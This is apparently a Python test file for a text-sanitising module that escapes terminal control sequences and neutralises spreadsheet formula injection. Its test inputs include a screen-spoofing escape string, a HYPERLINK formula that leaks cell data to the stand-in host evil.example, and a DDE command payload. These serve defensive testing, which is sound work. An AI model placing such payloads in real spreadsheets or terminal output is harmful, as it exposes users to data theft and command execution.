"""``terminal_text`` and ``spreadsheet_cell``: what hostile text becomes where a person looks at it."""

from __future__ import annotations

import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from geograph.safe_text import spreadsheet_cell, terminal_text

BIDI_CONTROLS = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def _obeyed(ch: str) -> bool:
    """A character a terminal acts on instead of showing: C0 and C1 controls, DEL, bidi overrides."""
    return unicodedata.category(ch) == "Cc" or ch in BIDI_CONTROLS


def test_escape_sequences_are_shown_not_obeyed() -> None:
    hostile = "Title\x1b]0;owned\x07 \x1b[2J\x9b31m red\r spoof \u202eevil\u202c"
    assert terminal_text(hostile) == ("Title\\x1b]0;owned\\x07 \\x1b[2J\\x9b31m red\\x0d spoof \\u202eevil\\u202c")


def test_layout_characters_are_kept_where_asked() -> None:
    assert terminal_text("a\tb\nc") == "a\tb\\x0ac"
    assert terminal_text("a\tb\nc", keep_newlines=True) == "a\tb\nc"
    persian = "می\u200cخواهم \u200f(ایران)\u200f"  # ZWNJ and RLM are part of ordinary Persian text
    assert terminal_text(persian) == persian


@given(st.text())
def test_nothing_a_terminal_obeys_survives(text: str) -> None:
    shown = terminal_text(text, keep_newlines=True)
    assert not any(_obeyed(ch) and ch not in "\t\n" for ch in shown)
    if not any(_obeyed(ch) for ch in text):
        assert shown == text


@given(st.text())
def test_a_spreadsheet_cell_never_starts_a_formula(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert cell in (value, "'" + value)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(cell)  # only a plain number may start so


def test_formulas_are_quoted_and_numbers_kept() -> None:
    assert spreadsheet_cell('=HYPERLINK("http://evil.example/?"&A1,"click")') == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    )
    assert spreadsheet_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert spreadsheet_cell("+1-2") == "'+1-2"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert [spreadsheet_cell(n) for n in ("-3", "-0.25", "+1e5", "0.5")] == ["-3", "-0.25", "+1e5", "0.5"]
    assert spreadsheet_cell("Russia") == "Russia"
